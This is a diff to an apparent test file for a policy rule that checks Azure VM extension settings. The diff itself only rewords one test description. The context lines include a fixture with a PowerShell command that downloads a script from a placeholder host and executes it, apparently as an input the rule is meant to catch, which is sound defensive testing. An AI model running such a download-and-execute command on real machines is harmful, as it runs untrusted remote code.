@@ -91,7 +91,7 @@ export default rule({
       verdict: "pass",
     },
     { when: "settings that are not known are not known", given: extended("${var.any}"), verdict: "unknown" },
-    { when: "an agent is no script", given: extended("{}", "AzureMonitorLinuxAgent"), verdict: "not-applicable" },
+    { when: "an agent is not a script", given: extended("{}", "AzureMonitorLinuxAgent"), verdict: "not-applicable" },
     {
       when: "PowerShell that runs what it downloads is the same",
       given: extended('{"commandToExecute":"powershell -c \\"iex (iwr https://a.example/x.ps1)\\""}'),
